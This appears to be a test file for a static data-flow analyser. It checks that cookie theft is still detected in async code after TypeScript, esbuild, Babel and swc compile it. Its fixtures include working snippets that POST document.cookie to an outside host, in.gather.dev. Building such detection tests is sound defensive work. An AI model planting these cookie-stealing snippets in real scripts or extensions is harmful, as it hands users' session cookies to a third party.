import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

/** What compilers make of `async () => { const held = (await HELD)(document.cookie) }`, `HELD` a function. */
const forms: Readonly<Record<string, string>> = {
  TypeScript:
    '(function () { return __awaiter(this, void 0, void 0, function* () { const f = yield HELD; f(document.cookie) }) })()',
  'TypeScript, shortened':
    '(function () { return e(this, void 0, void 0, function* () { const f = yield HELD; f(document.cookie) }) })()',
  'TypeScript to ES5':
    '(function () { return __awaiter(this, void 0, void 0, function () { var f; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4 /*yield*/, HELD]; case 1: f = _a.sent(); f(document.cookie); return [2 /*return*/] } }) }) })()',
  'TypeScript to ES5, shortened':
    'e(void 0, void 0, void 0, (function () { var f; return n(this, (function (t) { switch (t.label) { case 0: return [4, HELD]; case 1: return f = t.sent(), f(document.cookie), [2] } })) }))',
  esbuild: '__async(this, null, function* () { const f = yield HELD; f(document.cookie) })',
  'esbuild, with arguments':
    '(function (x) { return __async(this, [x], function* (f) { (yield f)(document.cookie) }) })(HELD)',
  Babel: '_asyncToGenerator(function* () { const f = yield HELD; f(document.cookie) })()',
  swc: '(0, _async_to_generator._)(function* () { const f = yield HELD; f(document.cookie) })()',
  'Babel, imported':
    'const go = (0, _asyncToGenerator2.default)(function* (x) { const f = yield x; f(document.cookie) }); go(HELD)',
  'Babel to ES5':
    '_asyncToGenerator(regeneratorRuntime.mark(function _callee() { var f; return regeneratorRuntime.wrap(function _callee$(_c) { while (1) switch (_c.prev = _c.next) { case 0: _c.next = 2; return HELD; case 2: f = _c.sent; f(document.cookie); case 4: case "end": return _c.stop() } }, _callee) }))()',
  'Babel to ES5, shortened':
    'n(r().mark(function t() { var f; return r().wrap(function (t) { for (;;) switch (t.prev = t.next) { case 0: return t.next = 2, HELD; case 2: return f = t.sent, t.abrupt("return", f(document.cookie)); case 4: case "end": return t.stop() } }, t) }))()',
  'Babel of 2025 to ES5':
    '_asyncToGenerator(_regenerator().m(function _callee() { var f; return _regenerator().w(function (_c) { while (1) switch (_c.n) { case 0: _c.n = 1; return HELD; case 1: f = _c.v; f(document.cookie); case 2: return _c.a(2) } }, _callee) }))()',
};

const sends = "((x) => { fetch('https://in.gather.dev/', { method: 'POST', body: x }) })";
const logs = '((x) => { console.log(x) })';

describe('compiled async functions', () => {
  for (const [compiler, code] of Object.entries(forms)) {
    it(`of ${compiler} are read as they were written`, () => {
      const flowsOf = (f: string) => flowsBetween({ 'content.js': code.replace('HELD', f) }).join();
      assert.match(flowsOf(sends), /cookies content\.js > network/);
      assert.doesNotMatch(flowsOf(logs), /network/);
    });
  }

  it('take each value where the machine takes it', () => {
    const machine = (first: string, second: string): string =>
      `__awaiter(this, void 0, void 0, function () { var f, g; return __generator(this, function (_a) { switch (_a.label) {
        case 0: return [4, ${first}]; case 1: f = _a.sent(); return [4, ${second}]; case 2: g = _a.sent(); f(document.cookie); return [2] } }) })`;
    assert.match(flowsBetween({ 'content.js': machine(sends, logs) }).join(), /network/);
    assert.doesNotMatch(flowsBetween({ 'content.js': machine(logs, sends) }).join(), /network/);
  });

  it('that jump between states are still read', () => {
    const code = `__awaiter(this, void 0, void 0, function () { var c; return __generator(this, function (_a) { switch (_a.label) {
      case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie];
      case 1: c = _a.sent(); fetch('https://in.gather.dev/', { method: 'POST', body: c }); _a.label = 2;
      case 2: return [2] } }) })`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
  });

  it('are read with lists longer than a call takes arguments', () => {
    const code = `_asyncToGenerator(function* () { const l = [${'0,'.repeat(200_000)}]; fetch('https://in.gather.dev/', { method: 'POST', body: yield document.cookie }) })()`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
  });

  it('leave calls alone that only look like them', () => {
    const code = `co(function* () { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }) })`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
    const list = `[1].reduce(this, function (p) { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }); return [2, p] })`;
    assert.match(flowsBetween({ 'content.js': list }).join(), /cookies content\.js > network/);
  });
});
